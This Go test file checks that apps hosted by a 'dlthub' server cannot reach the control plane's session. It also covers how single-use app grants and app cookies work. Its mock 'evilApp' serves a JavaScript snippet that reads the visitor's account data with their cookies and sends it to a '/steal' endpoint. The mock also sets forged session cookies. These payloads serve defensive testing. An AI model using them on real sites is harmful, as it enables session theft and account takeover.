package server

// Issue 11, "apps share the control plane's origin": an app, as an
// attacker would write one, against a real server and apps origin on
// loopback (two ports of one host, as `dlthub server` runs them by
// default; browsers send a host's cookies to each of its ports).

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/dlthub/dlthub/internal/jobs"
	"github.com/dlthub/dlthub/internal/store"
)

// evilApp is an app that reports what it received, tries to set the
// members' session cookie and serves a script that calls the control
// plane's API with the visitor's cookie.
func evilApp(t *testing.T, controlPlane string) *httptest.Server {
	t.Helper()
	app := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/evil.js") {
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = io.WriteString(w, `fetch("`+controlPlane+`/api/v1/me", {credentials: "include"}).then(r => r.text()).then(t => fetch("/steal?d=" + encodeURIComponent(t)));`)
			return
		}
		h := w.Header()
		h.Add("Set-Cookie", "dlthub_session=attacker; Path=/")
		h.Add("Set-Cookie", "__Host-dlthub_session=attacker; Path=/; Secure")
		h.Add("Set-Cookie", "dlthub_app=forged; Path=/")
		h.Add("Set-Cookie", "theme=dark; Path=/")
		h.Add("Set-Cookie", "wide=1; Domain=127.0.0.1; Path=/")
		h.Add("Set-Cookie", "own=1; Path="+r.URL.Path)
		writeJSON(w, http.StatusOK, map[string]string{"cookie": r.Header.Get("Cookie"), "authorization": r.Header.Get("Authorization"),
			"user": r.Header.Get("X-Dlthub-User"), "path": r.URL.Path})
	}))
	t.Cleanup(app.Close)
	return app
}

// runningApp deploys an interactive job and marks a run of it running at
// the address of app.
func runningApp(t *testing.T, tm team, ref string, app *httptest.Server) {
	t.Helper()
	ctx, st := context.Background(), tm.server.cfg.Store
	ann, err := st.UserByEmail(ctx, "ann@acme.test")
	if err != nil {
		t.Fatal(err)
	}
	m, err := jobs.Parse([]byte("[jobs.apps."+strings.TrimPrefix(ref, "jobs.apps.")+"]\ntype = \"interactive\"\ncommand = [\"true\"]\n"), "dlthub.toml")
	if err != nil {
		t.Fatal(err)
	}
	spec, _ := json.Marshal(m.Expand().Jobs[0])
	existing, _ := st.Jobs(ctx, tm.analytics, store.Page{})
	list := []store.Job{{Ref: ref, Hash: "h-" + ref, Spec: string(spec)}}
	for _, j := range existing {
		list = append(list, store.Job{Ref: j.Ref, Hash: j.Hash, Spec: j.Spec})
	}
	if _, err := st.ReconcileJobs(ctx, tm.analytics, list, time.Now()); err != nil {
		t.Fatal(err)
	}
	if _, err := st.ActiveDeployment(ctx, tm.analytics); err != nil {
		if _, err := st.CreateDeployment(ctx, store.Deployment{WorkspaceID: tm.analytics, ContentHash: "h", BlobKey: "k", CreatedBy: ann.ID}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := st.CreateRun(ctx, store.Run{WorkspaceID: tm.analytics, JobRef: ref, Trigger: "http:", Profile: "access", DeploymentVersion: 1, CreatedBy: ann.ID}); err != nil {
		t.Fatal(err)
	}
	r, err := st.ClaimRun(ctx, "test-worker", time.Now())
	if err != nil || r.JobRef != ref {
		t.Fatalf("claim: %+v %v", r, err)
	}
	if err := st.StartRun(ctx, r.ID, nil, nil, time.Now()); err != nil {
		t.Fatal(err)
	}
	if err := st.SetRunAddress(ctx, r.ID, strings.TrimPrefix(app.URL, "http://"), time.Now()); err != nil {
		t.Fatal(err)
	}
}

func noRedirects(c *http.Client) *http.Client {
	cp := *c
	cp.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	return &cp
}

func readAll(t *testing.T, resp *http.Response) string {
	t.Helper()
	b, _ := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	return string(b)
}

func sessionCookieIn(jar http.CookieJar, base string) []*http.Cookie {
	u, _ := url.Parse(base)
	var out []*http.Cookie
	for _, c := range jar.Cookies(u) {
		if c.Name == sessionCookie {
			out = append(out, c)
		}
	}
	return out
}

func TestAppsHaveAnOriginOfTheirOwn(t *testing.T) {
	tm := newTeam(t)
	s := tm.server
	apps := s.cfg.AppsURL
	const ref = "jobs.apps.evil"
	runningApp(t, tm, ref, evilApp(t, tm.ts))

	// The app's address is on the apps origin, not the control plane's.
	code, out := call(t, http.MethodPost, tm.ts+"/api/v1/workspaces/"+tm.analytics+"/jobs/"+ref+"/serve", tm.tokens["owner"], "")
	appURL, _ := out["url"].(string)
	if code != http.StatusOK || appURL != apps+AppURLPath(tm.analytics, ref) || strings.HasPrefix(appURL, tm.ts+"/") {
		t.Fatalf("serve: %d %v (control plane %s, apps %s)", code, out, tm.ts, apps)
	}

	// A signed-in member (with a GitHub state cookie too) opens it: the
	// apps origin sends them to the control plane for a grant and back.
	b := browser(t, tm.ts, "ann@acme.test", "pw-ann-123")
	cp, _ := url.Parse(tm.ts)
	b.Jar.SetCookies(cp, []*http.Cookie{{Name: githubStateCookie, Value: "state", Path: "/"}})
	before := sessionCookieIn(b.Jar, tm.ts)
	resp, err := b.Get(appURL + "page?q=1")
	if err != nil {
		t.Fatal(err)
	}
	body := readAll(t, resp)
	var seen map[string]string
	_ = json.Unmarshal([]byte(body), &seen)
	if resp.StatusCode != http.StatusOK || seen["user"] != "ann@acme.test" || seen["path"] != AppURLPath(tm.analytics, ref)+"page" ||
		!strings.HasPrefix(resp.Request.URL.String(), apps+"/") {
		t.Fatalf("member's visit: %d %s at %s", resp.StatusCode, body, resp.Request.URL)
	}
	// (a) The app never sees the control plane's cookies, the app cookie
	// or the Authorization header.
	if strings.Contains(strings.ToLower(seen["cookie"]), "dlthub") || seen["authorization"] != "" {
		t.Errorf("the app saw the visitor's credentials: %q %q", seen["cookie"], seen["authorization"])
	}
	// (b) What the browser gets: none of the cookies named like the
	// control plane's; the rest scoped to the app, host-only.
	base := AppURLPath(tm.analytics, ref)
	var names []string
	for _, line := range resp.Header.Values("Set-Cookie") {
		ck, err := http.ParseSetCookie(line)
		if err != nil {
			t.Fatalf("set-cookie %q: %v", line, err)
		}
		names = append(names, ck.Name)
		if controlPlaneCookie(ck.Name) || ck.Domain != "" || !strings.HasPrefix(ck.Path, base) {
			t.Errorf("the app set %q on the browser", line)
		}
	}
	if strings.Join(names, ",") != "theme,wide,own" {
		t.Errorf("app cookies kept: %v", names)
	}
	after := sessionCookieIn(b.Jar, tm.ts)
	if len(before) != 1 || len(after) != 1 || after[0].Value != before[0].Value {
		t.Errorf("the member's session cookie changed: %v → %v", before, after)
	}
	if resp, err := b.Get(tm.ts + "/api/v1/me"); err != nil || !strings.Contains(readAll(t, resp), "ann@acme.test") {
		t.Errorf("the member's session after the app: %v %v", resp, err)
	}
	// A restrictive CSP: connections and forms to the apps origin only,
	// framed by the app only, no sniffing.
	csp := strings.Join(resp.Header.Values("Content-Security-Policy"), ", ")
	for _, want := range []string{"frame-ancestors 'self'", "connect-src 'self'", "form-action 'self'", "object-src 'none'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("CSP %q lacks %q", csp, want)
		}
	}
	if strings.Contains(csp, tm.ts) || strings.Contains(csp, "*") || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("CSP %q / nosniff %q", csp, resp.Header.Get("X-Content-Type-Options"))
	}

	// (c) The app's script calls the control plane with the member's
	// cookie: browsers mark it as from the apps origin (same-site, another
	// port); the control plane refuses it, reads as well as writes.
	ann := sessionCookieIn(b.Jar, tm.ts)[0].Value
	for _, m := range []string{http.MethodGet, http.MethodPost} {
		for name, h := range map[string]http.Header{
			"fetch":   {"Origin": {apps}, "Sec-Fetch-Site": {"same-site"}, "Sec-Fetch-Mode": {"cors"}},
			"no-cors": {"Sec-Fetch-Site": {"same-site"}, "Sec-Fetch-Mode": {"no-cors"}},
			"origin":  {"Origin": {apps}},
		} {
			req, _ := http.NewRequest(m, tm.ts+"/api/v1/workspaces", strings.NewReader(`{"organization_id":"`+tm.acme+`","name":"stolen"}`))
			req.Header = h.Clone()
			req.Header.Set("Content-Type", "application/json")
			req.AddCookie(&http.Cookie{Name: sessionCookie, Value: ann})
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			if got := readAll(t, resp); resp.StatusCode != http.StatusForbidden {
				t.Errorf("%s %s from the apps origin with the member's cookie: %d %s", m, name, resp.StatusCode, got)
			}
		}
	}
	// The control plane's own pages (same-origin) still read the API.
	req, _ := http.NewRequest(http.MethodGet, tm.ts+"/api/v1/me", nil)
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	req.AddCookie(&http.Cookie{Name: sessionCookie, Value: ann})
	if resp, err := http.DefaultClient.Do(req); err != nil || resp.StatusCode != http.StatusOK {
		t.Errorf("same-origin read: %v %v", resp, err)
	}
	// The apps origin is not an API: 404 with the member's cookies, and a
	// bearer token opens no app there.
	for _, p := range []string{"/api/v1/me", "/api/v1/workspaces", "/login", "/workspaces/" + tm.analytics, "/"} {
		if resp, err := b.Get(apps + p); err != nil || resp.StatusCode != http.StatusNotFound {
			t.Errorf("apps origin %s: %v %v", p, resp, err)
		}
	}
	req, _ = http.NewRequest(http.MethodGet, appURL, nil)
	req.Header.Set("Authorization", "Bearer "+tm.tokens["owner"])
	req.AddCookie(&http.Cookie{Name: sessionCookie, Value: ann})
	if resp, err := noRedirects(http.DefaultClient).Do(req); err != nil || resp.StatusCode != http.StatusSeeOther ||
		resp.Header.Get("Location") != tm.ts+AppURLPath(tm.analytics, ref) {
		t.Errorf("bearer token or session cookie on the apps origin: %v %v", resp, err)
	}

	// The control plane's pages are never framed; it serves no app.
	resp, err = b.Get(tm.ts + "/")
	if err != nil || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "frame-ancestors 'none'") || resp.Header.Get("X-Frame-Options") != "DENY" {
		t.Errorf("control plane headers: %v %v", resp.Header, err)
	}
	resp, err = noRedirects(b).Get(tm.ts + AppURLPath(tm.analytics, ref) + "x")
	if err != nil || resp.StatusCode != http.StatusSeeOther || !strings.HasPrefix(resp.Header.Get("Location"), apps+appAuthPath+"?grant=") {
		t.Fatalf("the control plane's app address: %v %v", resp, err)
	}
}

// A script of an app on another port of the host can add a session
// cookie for a deeper path (browsers send it first): a request with two
// session cookies counts as signed out, not as the attacker's account.
// Over HTTPS the cookie is __Host-dlthub_session, which no app can set.
func TestTossedSessionCookieSignsNobodyIn(t *testing.T) {
	tm := newTeam(t)
	s := tm.server
	ann, bob := tm.tokens["owner"], tm.tokens["other org"]
	me := func(cookies ...*http.Cookie) int {
		req, _ := http.NewRequest(http.MethodGet, tm.ts+"/api/v1/me", nil)
		for _, c := range cookies {
			req.AddCookie(c)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		_ = resp.Body.Close()
		return resp.StatusCode
	}
	if code := me(&http.Cookie{Name: sessionCookie, Value: ann}); code != http.StatusOK {
		t.Fatalf("one cookie: %d", code)
	}
	if code := me(&http.Cookie{Name: sessionCookie, Value: bob}, &http.Cookie{Name: sessionCookie, Value: ann}); code != http.StatusUnauthorized {
		t.Errorf("a tossed second session cookie: %d", code)
	}

	s.SetPublicURL("https://dlthub.example.com")
	defer s.SetPublicURL(tm.ts)
	resp, err := noRedirects(http.DefaultClient).PostForm(tm.ts+"/login", url.Values{"email": {"ann@acme.test"}, "password": {"pw-ann-123"}})
	if err != nil {
		t.Fatal(err)
	}
	_ = resp.Body.Close()
	cs := resp.Cookies()
	if len(cs) != 1 || cs[0].Name != "__Host-dlthub_session" || !cs[0].Secure || cs[0].Path != "/" || cs[0].Domain != "" {
		t.Fatalf("https session cookie: %+v", cs)
	}
	if code := me(&http.Cookie{Name: sessionCookie, Value: ann}); code != http.StatusUnauthorized {
		t.Errorf("over https, an unprefixed session cookie (which an app can set): %d", code)
	}
	if code := me(&http.Cookie{Name: "__Host-dlthub_session", Value: cs[0].Value}); code != http.StatusOK {
		t.Errorf("over https, the __Host- cookie: %d", code)
	}
}

// Grants: signed, short-lived, single-use, for one app and a path inside
// it; the app cookie opens that app only, while its member may see it.
func TestAppGrants(t *testing.T) {
	tm := newTeam(t)
	s := tm.server
	apps := s.cfg.AppsURL
	app := evilApp(t, tm.ts)
	runningApp(t, tm, "jobs.apps.one", app)
	runningApp(t, tm, "jobs.apps.two", app)
	one, two := AppURLPath(tm.analytics, "jobs.apps.one"), AppURLPath(tm.analytics, "jobs.apps.two")
	b := browser(t, tm.ts, "ann@acme.test", "pw-ann-123")
	nb := noRedirects(b)

	// Signed out: the door sends to sign in, and back.
	resp, err := noRedirects(http.DefaultClient).Get(tm.ts + one)
	if err != nil || resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/login?next="+url.QueryEscape(one) {
		t.Errorf("signed out: %v %v", resp, err)
	}
	// Another org's member: not found, no grant.
	bob := browser(t, tm.ts, "bob@globex.test", "pw-bob-123")
	if resp, err := noRedirects(bob).Get(tm.ts + one); err != nil || resp.StatusCode != http.StatusNotFound {
		t.Errorf("another org: %v %v", resp, err)
	}

	resp, err = nb.Get(tm.ts + one + "deep?x=1")
	if err != nil || resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("door: %v %v", resp, err)
	}
	grantURL := resp.Header.Get("Location")
	if resp.Header.Get("Referrer-Policy") != "no-referrer" {
		t.Errorf("door referrer policy: %q", resp.Header.Get("Referrer-Policy"))
	}
	fresh := http.Client{CheckRedirect: nb.CheckRedirect}
	resp, err = fresh.Get(grantURL)
	if err != nil || resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != one+"deep?x=1" {
		t.Fatalf("redeem: %v %v", resp, err)
	}
	var ck *http.Cookie
	for _, c := range resp.Cookies() {
		if c.Name == appCookie {
			ck = c
		}
	}
	if ck == nil || ck.Path != one || !ck.HttpOnly || ck.Domain != "" {
		t.Fatalf("app cookie: %+v", resp.Cookies())
	}
	// Once only.
	if resp, err := fresh.Get(grantURL); err != nil || resp.StatusCode != http.StatusBadRequest {
		t.Errorf("grant used twice: %v %v", resp, err)
	}
	// Tampered, expired, or for a path outside its app: refused.
	g, _ := url.Parse(grantURL)
	tok := g.Query().Get("grant")
	now := time.Now()
	for name, v := range map[string]string{
		"tampered": strings.Replace(tok, tok[3:4], string(rune(tok[3]^1)), 1),
		"expired": s.signApp(appToken{Purpose: "grant", User: "x", Workspace: tm.analytics, Ref: "jobs.apps.one", Next: one,
			Expires: now.Add(-time.Second).Unix(), Ends: now.Add(time.Hour).Unix(), Nonce: "n1"}),
		"outside": s.signApp(appToken{Purpose: "grant", User: "x", Workspace: tm.analytics, Ref: "jobs.apps.one", Next: "/api/v1/me",
			Expires: now.Add(time.Minute).Unix(), Ends: now.Add(time.Hour).Unix(), Nonce: "n2"}),
		"app cookie as grant": ck.Value,
	} {
		if resp, err := fresh.Get(apps + appAuthPath + "?grant=" + url.QueryEscape(v)); err != nil || resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%s grant: %v %v", name, resp, err)
		}
	}

	// The cookie opens its app, not another one, and not once its member
	// lost the workspace.
	get := func(path string, c *http.Cookie) *http.Response {
		req, _ := http.NewRequest(http.MethodGet, apps+path, nil)
		req.AddCookie(c)
		resp, err := fresh.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		_ = resp.Body.Close()
		return resp
	}
	if resp := get(one+"deep", ck); resp.StatusCode != http.StatusOK {
		t.Errorf("app cookie on its app: %d", resp.StatusCode)
	}
	if resp := get(two, ck); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("app cookie of one on two: %d", resp.StatusCode)
	}
	forged := &http.Cookie{Name: appCookie, Value: s.signApp(appToken{Purpose: "grant", User: "x", Workspace: tm.analytics, Ref: "jobs.apps.one", Expires: now.Add(time.Hour).Unix()})}
	if resp := get(one, forged); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("a grant as app cookie: %d", resp.StatusCode)
	}
	ctx := context.Background()
	viewer, _ := s.cfg.Store.UserByEmail(ctx, "viewer@acme.test")
	vck := &http.Cookie{Name: appCookie, Value: s.signApp(appToken{Purpose: "app", User: viewer.ID, Workspace: tm.analytics, Ref: "jobs.apps.one", Expires: now.Add(time.Hour).Unix(),
		Session: HashToken(tm.tokens["viewer"])})}
	// A cookie for no session, or another member's, opens nothing.
	for name, sess := range map[string]string{"none": "", "another member's": HashToken(tm.tokens["developer"])} {
		c := &http.Cookie{Name: appCookie, Value: s.signApp(appToken{Purpose: "app", User: viewer.ID, Workspace: tm.analytics, Ref: "jobs.apps.one", Expires: now.Add(time.Hour).Unix(), Session: sess})}
		if resp := get(one, c); resp.StatusCode != http.StatusSeeOther {
			t.Errorf("app cookie with %s session: %d", name, resp.StatusCode)
		}
	}
	if resp := get(one, vck); resp.StatusCode != http.StatusOK {
		t.Errorf("a viewer's app cookie: %d", resp.StatusCode)
	}
	if err := s.cfg.Store.RemoveWorkspaceRole(ctx, tm.analytics, viewer.ID); err != nil {
		t.Fatal(err)
	}
	if resp := get(one, vck); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("the app cookie of a removed viewer: %d", resp.StatusCode)
	}

	// The workspace page links to the apps on their origin.
	resp, err = b.Get(tm.ts + WorkspacePagePath(tm.analytics))
	if err != nil || !strings.Contains(readAll(t, resp), `jobs.apps.two</a> · <a href="`+apps+two+`"`) {
		t.Errorf("workspace page: %v %v", resp, err)
	}
	// The whole flow in one browser, as a person clicks the address.
	resp, err = b.Get(apps + two)
	if err != nil || resp.StatusCode != http.StatusOK || !strings.Contains(readAll(t, resp), `"user":"ann@acme.test"`) {
		t.Errorf("browser to app two: %v %v", resp, err)
	}
	// Signing out (the session revoked) ends the member's app cookies.
	sess := sessionCookieIn(b.Jar, tm.ts)
	if len(sess) != 1 {
		t.Fatalf("session cookies: %v", sess)
	}
	k, err := s.cfg.Store.APIKeyByHash(ctx, HashToken(sess[0].Value))
	if err != nil {
		t.Fatal(err)
	}
	if err := s.cfg.Store.RevokeAPIKey(ctx, k.ID, time.Now()); err != nil {
		t.Fatal(err)
	}
	if resp := get(one+"deep", ck); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("app cookie after its session was revoked: %d", resp.StatusCode)
	}

	// Public links are on the apps origin; old links on the control plane
	// are sent there.
	code, out := call(t, http.MethodPost, tm.ts+"/api/v1/workspaces/"+tm.analytics+"/jobs/jobs.apps.one/publish", tm.tokens["owner"], "")
	link, _ := out["url"].(string)
	if code != http.StatusCreated || !strings.HasPrefix(link, apps+"/p/pub_") {
		t.Fatalf("publish: %d %v", code, out)
	}
	jar, _ := cookiejar.New(nil)
	visitor := &http.Client{Jar: jar}
	resp, err = visitor.Get(tm.ts + strings.TrimPrefix(link, apps))
	if err != nil {
		t.Fatal(err)
	}
	if body := readAll(t, resp); resp.StatusCode != http.StatusOK || !strings.Contains(body, `"user":"public"`) || strings.Contains(body, "pub_") ||
		!strings.HasPrefix(resp.Request.URL.String(), apps+"/") {
		t.Errorf("public link: %d %s at %s", resp.StatusCode, body, resp.Request.URL)
	}
}
